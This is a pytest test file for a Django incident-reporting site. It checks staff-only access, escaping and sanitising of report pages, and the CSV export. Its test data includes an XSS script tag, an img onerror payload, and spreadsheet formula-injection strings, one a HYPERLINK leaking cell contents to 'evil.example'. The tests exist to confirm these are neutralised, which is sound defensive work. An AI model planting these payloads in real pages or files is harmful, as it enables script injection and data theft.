"""The report pages: center staff only, everything shown escaped."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
from django.test import Client

from renkei.accounts.models import User
from renkei.accounts.tests.personas import PASSWORD
from renkei.reports.models import QuarterNote
from renkei.reports.render_csv import csv_text
from renkei.reports.tests import records

pytestmark = pytest.mark.django_db
PAGE = "/reports/quarterly/2023-04/"
EVIL = '<script>alert("brand")</script>'


def _client(user: User | None) -> Client:
    client = Client()
    if user is not None:
        assert client.login(username=user.username, password=PASSWORD)
    return client


@pytest.fixture
def data() -> None:
    at = datetime(2023, 4, 10, 9, tzinfo=ZoneInfo("Asia/Tokyo"))
    records.incident("phishing", at, brand=records.brand(EVIL, "JP"))
    records.incident("scan", at, ports=("22/tcp",))


@pytest.mark.parametrize("url", ["/reports/", PAGE, PAGE + "report.json", PAGE + "report.zip"])
def test_an_anonymous_visitor_is_sent_to_the_login_page(url: str) -> None:
    response = Client().get(url)

    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


@pytest.mark.parametrize("who", ["participant_a", "outsider"])
@pytest.mark.parametrize("url", ["/reports/", PAGE, PAGE + "report.json", PAGE + "report.pdf"])
def test_participants_and_reporters_are_refused(personas: dict, who: str, url: str) -> None:
    assert _client(personas[who]).get(url).status_code == 403


def test_a_participant_cannot_add_a_section(personas: dict) -> None:
    response = _client(personas["participant_a"]).post(
        PAGE + "notes/", {"lang": "ja", "title": "x", "body_markdown": "y", "position": 0}
    )

    assert response.status_code == 403
    assert not QuarterNote.objects.exists()


def test_staff_see_the_report_with_brand_names_escaped(personas: dict, data: None) -> None:
    response = _client(personas["analyst"]).get(PAGE)

    html = response.content.decode()
    assert response.status_code == 200
    assert "表 1:" in html and "図 9:" in html
    assert EVIL not in html
    assert "&lt;script&gt;alert(&quot;brand&quot;)&lt;/script&gt;" in html
    assert html.count('src="data:image/svg+xml;base64,') == 9


def test_the_language_switch_shows_the_english_report(personas: dict, data: None) -> None:
    html = _client(personas["coordinator"]).get(PAGE + "?lang=en").content.decode()

    assert "Table 1: " in html and "Figure 9: " in html
    assert 'href="?lang=ja"' in html
    assert "report.pdf?lang=en" in html and "report.zip?lang=en" in html


def test_the_json_download_is_the_report(personas: dict, data: None) -> None:
    response = _client(personas["analyst"]).get(PAGE + "report.json")

    report = json.loads(response.content)
    assert response["Content-Disposition"] == 'attachment; filename="renkei-2023-04.json"'
    assert report["totals"]["incidents"]["months"] == [2, 0, 0]
    assert report["phishing_brands"]["top_brands"]["domestic"] == [{"brand": EVIL, "count": 1}]


def test_the_csv_download_is_a_zip_of_one_file_per_table(personas: dict, data: None) -> None:
    response = _client(personas["analyst"]).get(PAGE + "report.zip?lang=en")

    names = zipfile.ZipFile(BytesIO(response.content)).namelist()
    assert "renkei-2023-04-en/table1_totals.csv" in names
    assert "renkei-2023-04-en/table4_scan_ports.csv" in names


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+1", "－1", "\t=1"]
)
def test_a_brand_name_a_spreadsheet_would_run_is_written_as_text(personas: dict, name: str) -> None:
    at = datetime(2023, 4, 10, 9, tzinfo=ZoneInfo("Asia/Tokyo"))
    records.incident("phishing", at, brand=records.brand(name, "JP"))

    response = _client(personas["analyst"]).get(PAGE + "report.zip?lang=en")

    archive = zipfile.ZipFile(BytesIO(response.content))
    rows = list(
        csv.reader(io.StringIO(archive.read("renkei-2023-04-en/figure9_top_brands.csv").decode()))
    )
    cells = [cell for row in rows for cell in row]
    assert "'" + name in cells
    assert not any(cell.startswith(("=", "+", "@", "－", "\t")) for cell in cells)


def test_numbers_stay_numbers_in_csv_even_negative_ones() -> None:
    # A change of -3 % is a number in the figures; only text is guarded.
    assert csv_text([["brand", -3, -1.5, None, "-3"]]) == "brand,-3,-1.5,,'-3\n"


def test_staff_add_a_section_that_shows_sanitized_on_the_page(personas: dict, data: None) -> None:
    client = _client(personas["analyst"])

    response = client.post(PAGE + "notes/", {
        "lang": "ja", "title": "事例 <b>1</b>", "body_markdown": "**DNS 水責め** <img src=x onerror=alert(1)>",
        "position": 1,
    })  # fmt: skip

    assert response.status_code == 302
    html = client.get(PAGE).content.decode()
    assert "<strong>DNS 水責め</strong>" in html
    assert "onerror" not in html
    assert "事例 &lt;b&gt;1&lt;/b&gt;" in html


def test_a_section_with_an_enormous_position_is_refused_not_a_server_error(
    personas: dict,
) -> None:
    response = _client(personas["analyst"]).post(PAGE + "notes/", {
        "lang": "ja", "title": "t", "body_markdown": "", "position": "99999999999999999999",
    })  # fmt: skip

    assert response.status_code == 400
    assert not QuarterNote.objects.exists()


def test_the_index_lists_quarters_with_reports(personas: dict, data: None) -> None:
    response = _client(personas["analyst"]).get("/reports/")

    assert response.status_code == 200
    assert "/reports/quarterly/2023-04/" in response.content.decode()


def test_an_impossible_quarter_is_not_found(personas: dict) -> None:
    assert _client(personas["analyst"]).get("/reports/quarterly/2023-13/").status_code == 404


def test_a_quarter_not_over_yet_says_its_figures_are_provisional(personas: dict) -> None:
    tz = ZoneInfo("Asia/Tokyo")
    now = datetime.now(tz)
    records.incident("phishing", now, brand=records.brand("Amazon", "US"))
    current = f"/reports/quarterly/{now:%Y-%m}/"
    client = _client(personas["analyst"])

    japanese = client.get(current).content.decode()
    english = client.get(current + "?lang=en").content.decode()
    finished = client.get(PAGE + "?lang=en").content.decode()

    assert f"{now.year} 年 {now.month} 月 {now.day} 日 時点の暫定値" in japanese
    assert f"provisional, as of {now.day} {now:%B} {now.year}" in english
    assert "provisional" not in finished
